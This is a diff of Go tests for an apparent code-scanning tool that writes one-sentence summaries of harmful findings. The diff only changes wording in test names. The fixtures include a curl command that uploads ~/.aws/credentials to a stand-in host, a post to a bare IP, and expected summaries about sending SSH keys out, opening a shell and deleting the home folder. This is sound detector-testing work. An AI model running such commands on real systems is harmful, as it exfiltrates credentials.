@@ -33,9 +33,9 @@ func TestAHarmHasOneSentence(t *testing.T) {
 	}{
 		{"source, host and lines of a flow", []gate.Finding{keys, channel},
 			"Reads ~/.ssh/id_ed25519 and sends it to collect.example.com:8443 (lines 13 → 20)"},
-		{"a host that nobody sees is left out", []gate.Finding{keys},
+		{"a host that no one sees is left out", []gate.Finding{keys},
 			"Reads ~/.ssh/id_ed25519 and sends it over the network (lines 13 → 20)"},
-		{"without a flow nobody knows what is sent", []gate.Finding{saying(on(5, "exfiltration/post", suspicious), "sends data to a server.", `post("https://198.51.100.7/x")`)},
+		{"without a flow no one knows what is sent", []gate.Finding{saying(on(5, "exfiltration/post", suspicious), "sends data to a server.", `post("https://198.51.100.7/x")`)},
 			"Sends data to a server: 198.51.100.7 (line 5)"},
 		{"one line that names both", []gate.Finding{saying(on(5, "exfiltration/curl", dangerous), "sends a file", "curl -T ~/.aws/credentials https://example.com")},
 			"Sends ~/.aws to example.com (line 5)"},
@@ -150,7 +150,7 @@ func TestAFileIsSummedUpByItsWorstHarm(t *testing.T) {
 			[]string{"Holds text (base64 on line 3) that opens a shell (line 1)", "Opens a shell (line 1)"}},
 		{"also through a text that is harmless itself", []gate.FileResult{parent, emptied, grandchild},
 			[]string{"Holds text (hex on line 1) that deletes the home folder (line 2)", "Holds text (hex on line 1) that deletes the home folder (line 2)", "Deletes the home folder (line 2)"}},
-		{"a parent that nobody knows", []gate.FileResult{child}, []string{"Opens a shell (line 1)"}},
+		{"a parent that no one knows", []gate.FileResult{child}, []string{"Opens a shell (line 1)"}},
 	} {
 		for i, f := range Mark(gate.Result{Files: c.files}).Files {
 			if f.Summary != c.want[i] {
